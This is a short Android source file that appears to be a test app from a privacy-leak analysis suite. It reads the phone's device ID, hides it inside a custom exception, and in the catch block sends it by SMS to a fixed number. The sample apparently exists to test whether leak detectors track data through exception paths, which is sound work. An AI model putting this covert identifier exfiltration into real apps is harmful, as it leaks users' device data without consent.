package cn.privlens.suite.refusal_carries_number;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class Main extends Activity {
    static final class Refused extends Exception {
        private final String about;

        Refused(String about) {
            super("拒绝");
            this.about = about;
        }
    }

    private void check(String number) throws Refused {
        if (number != null) {
            throw new Refused(number);
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            check(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        } catch (Refused e) {
            Log.i("suite", e.getMessage());
            SmsManager.getDefault().sendTextMessage("10690000", null, e.about, null, null);
        }
    }
}
